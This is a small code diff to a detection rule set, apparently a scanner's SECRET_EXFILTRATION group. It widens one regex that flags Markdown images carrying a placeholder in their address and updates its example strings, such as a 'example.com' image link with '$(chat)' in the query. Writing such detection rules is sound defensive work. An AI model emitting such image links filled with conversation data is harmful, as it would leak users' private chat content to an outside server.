@@ -221,8 +221,8 @@ export const SECRET_EXFILTRATION: readonly RuleGroup[] = [
       {
         name: 'markdown',
         description: 'A Markdown image has a placeholder in its address.',
-        pattern: String.raw`!\[[^\]]{0,200}\]\(https?:[^)\s]{1,300}[?&=/](?:\{|\[|<|%7b|\$[{\w])[^)]{0,200}\)`,
-        examples: ['![x](https://example.com/a.png?q={chat})', '![](http://example.com/<secret>)'],
+        pattern: String.raw`!\[[^\]]{0,200}\]\(https?:[^)\s]{1,300}[?&=/](?:\{|\[|<|%7b|\$[{(\[<\w])[^)]{0,200}\)`,
+        examples: ['![x](https://example.com/a.png?q=$(chat))', '![](http://example.com/<secret>)'],
         nearMisses: ['![logo](https://example.com/badge/$-sponsors.png)', '[x](https://example.com/?q={a})'],
       },
       {
